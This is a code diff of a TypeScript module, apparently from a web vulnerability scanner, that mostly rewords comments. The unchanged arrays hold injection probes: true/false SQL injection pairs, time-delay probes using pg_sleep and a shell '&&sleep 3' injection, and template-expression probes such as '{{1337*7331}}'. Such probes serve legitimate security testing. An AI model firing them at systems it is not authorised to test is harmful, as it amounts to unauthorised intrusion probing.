@@ -1,7 +1,10 @@
-/** Two texts of one length and look that only a server which runs a part of them can tell apart; `{v}` stands for what is right in the place. */
+/**
+ * Two texts of similar length and form that only a server that executes them can tell apart; `{v}` stands for the valid
+ * value.
+ */
 export type PayloadPair = readonly [one: string, other: string];
 
-/** A condition that holds, and one that does not; or SQL that is sound, and SQL that is not. The first four are enough for a look. */
+/** A true and a false condition, or valid and invalid SQL. The first four are enough for the short form. */
 export const truths: readonly PayloadPair[] = [
   ["{v}' AND '1'='1", "{v}' AND '1'='2"],
   ['{v} AND 1=1', '{v} AND 1=2'],
@@ -19,7 +22,10 @@ export const truths: readonly PayloadPair[] = [
   ["{v}' AND 'a' LIKE 'a", "{v}' AND 'a' LIKE 'b"],
 ];
 
-/** One that takes no time, and one that takes three seconds where it is run. The first three are enough for a look. */
+/**
+ * A text that takes no time, and one that takes three seconds where it is executed. The first three are enough for the
+ * short form.
+ */
 export const sleeps: readonly PayloadPair[] = [
   ["{v}'||(select pg_sleep(0))||'", "{v}'||(select pg_sleep(3))||'"],
   ["{v}' AND hex(randomblob(1))>'", "{v}' AND hex(randomblob(500000000))>'"],
@@ -33,10 +39,10 @@ export const sleeps: readonly PayloadPair[] = [
   ["{v}'&&sleep 0#", "{v}'&&sleep 3#"],
 ];
 
-/** What the sum in the payloads below comes to where somebody works it out. */
+/** The result of the sum below, where it is calculated. */
 export const WORKED_OUT = '9801547';
 
-/** Templates, shells and SQL that would work out 1337 × 7331. The first four are enough for a look. */
+/** Templates, shell commands and SQL that would calculate 1337 × 7331. The first four are enough for the short form. */
 export const sums: readonly string[] = [
   '{{1337*7331}}',
   `\${1337*7331}`,
@@ -53,5 +59,5 @@ export const sums: readonly string[] = [
   '%{1337*7331}',
 ];
 
-/** How many of each are enough for a look. */
+/** The number of each that is enough for the short form. */
 export const A_LOOK = { truths: 4, sleeps: 3, sums: 4 } as const;
